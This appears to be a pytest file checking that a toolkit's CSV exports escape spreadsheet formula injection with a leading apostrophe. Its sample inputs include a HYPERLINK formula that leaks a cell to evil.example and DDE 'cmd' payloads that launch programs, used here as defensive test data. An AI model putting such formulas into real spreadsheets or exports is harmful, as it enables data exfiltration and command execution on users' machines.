"""CSV formula injection: service names such as ``=HYPERLINK(...)`` or ``=cmd|' /C calc'!A0`` must not
reach a spreadsheet as formulas, from ``assess-all --csv`` or from the portfolio's CSV download.

Every text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with
a leading apostrophe (OWASP's advice); the name still reads back as typed after that apostrophe.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
import yaml
from osa_toolkit.cli.batch import run

from osa_toolkit.report.csv_safe import FORMULA_STARTS, safe_cell

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _folder(tmp_path: Path) -> Path:
    folder = tmp_path / "profiles"
    folder.mkdir()
    for i, name in enumerate(NAMES):
        profile = {"profile_version": 1, "service": {"name": name}, "scope": {"user_to_user": True}}
        (folder / f"s{i}.yaml").write_text(yaml.safe_dump(profile), encoding="utf-8")
    return folder


def _dangerous(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("wide", [False, True])
def test_assess_all_csv_has_no_formula_cells(tmp_path: Path, wide: bool) -> None:
    out = tmp_path / "levels.csv"
    args = [str(_folder(tmp_path)), "--csv", str(out), "--today", "2026-11-28"]
    assert run(args + (["--wide"] if wide else [])) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert _dangerous(cells) == []
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert names == {"'" + name for name in NAMES}  # each name kept, after the apostrophe


def test_assess_all_to_stdout_is_safe_too(tmp_path: Path, capsys) -> None:
    assert run([str(_folder(tmp_path)), "--csv", "-", "--wide", "--today", "2026-11-28"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == len(NAMES) + 1
    assert _dangerous([cell for row in rows for cell in row]) == []


def test_the_portfolio_download_has_no_formula_cells(tmp_path: Path) -> None:
    from osa_toolkit.store import open_store
    from osa_toolkit.widgets.portfolio import PortfolioView

    with open_store(tmp_path / "records.sqlite3") as store:
        view = PortfolioView(
            store, folder=_folder(tmp_path), source="folder", today=dt.date(2026, 11, 28)
        )
        link = view.download.value
    text = base64.b64decode(link.split("base64,")[1].split('"')[0]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(NAMES) + 1
    assert _dangerous([cell for row in rows for cell in row]) == []
    assert "'=cmd|' /C calc'!A0" in {cell for row in rows for cell in row}


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("Kingsbury Cycling Forum") == "Kingsbury Cycling Forum"
    assert safe_cell("a=b") == "a=b"
